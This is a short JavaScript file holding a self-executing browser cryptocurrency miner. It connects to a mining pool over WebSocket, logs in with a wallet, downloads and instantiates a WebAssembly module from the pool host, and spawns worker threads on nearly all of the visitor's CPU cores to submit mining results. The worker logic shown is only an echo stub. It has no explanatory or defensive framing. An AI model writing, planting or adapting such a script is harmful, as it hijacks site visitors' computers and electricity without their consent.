(function () {
  var pool = "wss://pool.webminer.invalid:3333";
  var threads = Math.max(1, (navigator.hardwareConcurrency || 2) - 1);
  var miners = [];
  var conn = new WebSocket(pool);
  conn.onopen = function () { conn.send(JSON.stringify({ method: "login", params: { login: "wallet-address", pass: "x", agent: "webminer/1.0" } })); };
  conn.onmessage = function (m) {
    var msg = JSON.parse(m.data);
    if (msg.method === "job") miners.forEach(function (w) { w.postMessage(msg.params); });
  };
  WebAssembly.instantiateStreaming(fetch("https://pool.webminer.invalid/cn.wasm")).then(function (r) {
    for (var i = 0; i < threads; i++) {
      var w = new Worker(URL.createObjectURL(new Blob(["self.onmessage=function(e){postMessage(e.data)}"])));
      w.onmessage = function (e) { conn.send(JSON.stringify({ method: "submit", params: e.data })); };
      miners.push(w);
    }
  });
})();
